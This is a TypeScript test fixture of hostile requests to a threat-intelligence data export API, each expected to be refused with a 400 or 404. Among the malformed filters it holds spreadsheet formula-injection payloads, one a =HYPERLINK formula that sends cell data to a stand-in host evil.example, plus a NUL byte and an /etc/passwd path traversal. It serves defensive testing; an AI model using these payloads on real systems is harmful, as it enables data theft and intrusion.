import type { HostileCase } from '../../support/hostile-case.js';

/**
 * Hostile requests to the exports: filter values that are no dates, numbers, enums or ids (spreadsheet
 * formulas among them), filters given twice or misspelt, and routes that do not exist. Each is
 * refused before the export writes a byte: a JSON 400 naming the parameter, or a JSON 404.
 */
const get = (path: string) => () => ({ method: 'GET' as const, path });
const badFilter = (name: string, path: string): HostileCase => ({
  name: `export filter: ${name}`,
  request: get(path),
  refusal: { status: 400, code: 'BAD_USER_INPUT' },
});
const noRoute = (name: string, method: 'GET' | 'POST' | 'PUT', path: string): HostileCase => ({
  name: `unknown route: ${name}`,
  request: () => ({ method, path }),
  refusal: { status: 404, code: 'NOT_FOUND' },
});

const thousandAndOneIds = Array.from({ length: 1001 }, (_, i) => `a${i}`).join(',');

export const exportCases: HostileCase[] = [
  badFilter('JSON from=garbage', '/export/json?from=garbage'),
  badFilter('GraphML from=garbage', '/export/graphml?from=garbage'),
  badFilter('STIX from=garbage', '/export/stix?from=garbage'),
  badFilter('CSV from=2022-02-30 (no such day)', '/export/csv/incidents?from=2022-02-30'),
  badFilter('to=2022-13-45 (no such month)', '/export/json?to=2022-13-45'),
  badFilter('from=1900 (before 1970)', '/export/json?from=1900'),
  badFilter('from after to', '/export/json?from=2023&to=2022-12'),
  badFilter('from given twice', '/export/json?from=2022&from=2023'),
  badFilter(
    'a repeated list with one bad id',
    '/export/json?actorIds=sandworm&actorIds=Not%20an%20id',
  ),
  badFilter('a misspelt filter (form=)', '/export/json?form=2022'),
  badFilter('a bracketed parameter (from[gte]=)', '/export/json?from%5Bgte%5D=2022'),
  badFilter('an empty value', '/export/json?sectorIds='),
  badFilter('an empty list item', '/export/json?sectorIds=energy,,health'),
  badFilter('an unknown sector', '/export/json?sectorIds=atlantis'),
  badFilter('an actor global id in sectorIds', '/export/json?sectorIds=Actor:sandworm'),
  badFilter('an unknown country', '/export/csv/incidents?countryCodes=Atlantis'),
  badFilter('a NUL byte in a date', '/export/json?from=2022%00'),
  badFilter('minConfidence=-1', '/export/json?minConfidence=-1'),
  badFilter('minConfidence=1e2', '/export/json?minConfidence=1e2'),
  badFilter('attributionStatuses=CONFIRMED', '/export/json?attributionStatuses=CONFIRMED'),
  badFilter('crossBorder=yes', '/export/json?crossBorder=yes'),
  badFilter('1,001 actor ids', `/export/json?actorIds=${thousandAndOneIds}`),
  badFilter(
    'a formula as a sector (=HYPERLINK)',
    `/export/csv/actors?sectorIds=${encodeURIComponent('=HYPERLINK("https://evil.example/?d="&A1,"x")')}`,
  ),
  badFilter(
    'a formula as a country (+1)',
    `/export/csv/actors?countryCodes=${encodeURIComponent('+1')}`,
  ),
  badFilter('a formula as an attack type (-2)', '/export/csv/actors?attackTypes=-2'),
  badFilter('a formula as an actor id (@SUM)', '/export/csv/actors?actorIds=@SUM(A1)'),
  badFilter('a tab-led date', '/export/csv/actors?from=%09x'),
  badFilter('a carriage-return-led date', '/export/csv/actors?to=%0Dx'),
  noRoute('GET /export/xml', 'GET', '/export/xml'),
  noRoute('GET /export', 'GET', '/export'),
  noRoute('GET /export/json/extra', 'GET', '/export/json/extra'),
  noRoute('GET /export/csv/', 'GET', '/export/csv/'),
  noRoute('GET /export/csv/nothing', 'GET', '/export/csv/nothing'),
  noRoute('POST /export/json', 'POST', '/export/json'),
  noRoute('PUT /export/stix', 'PUT', '/export/stix'),
  noRoute('GET /nope', 'GET', '/nope'),
  noRoute('GET /..%2f..%2fetc/passwd', 'GET', '/..%2f..%2fetc/passwd'),
];
